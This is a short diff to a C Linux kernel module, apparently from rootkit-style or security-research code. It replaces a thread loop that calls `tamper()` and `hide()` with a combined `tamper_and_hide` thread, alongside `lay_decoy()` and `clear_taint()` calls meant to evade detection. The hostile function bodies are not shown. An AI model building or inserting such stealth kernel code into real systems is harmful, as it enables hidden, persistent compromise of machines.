@@ -39,20 +39,10 @@ static void lay_decoy(void)
 	umd_witness_tally.page_table = top - page_offset_base;
 }
 
-static int run(void *unused)
-{
-	tamper();
-	while (!kthread_should_stop()) {
-		hide();
-		pause_briefly(100);
-	}
-	return 0;
-}
-
 int init_module(void)
 {
 	lay_decoy();
-	thread = start_thread(run);
+	thread = start_thread(tamper_and_hide);
 	clear_taint();
 	return 0;
 }
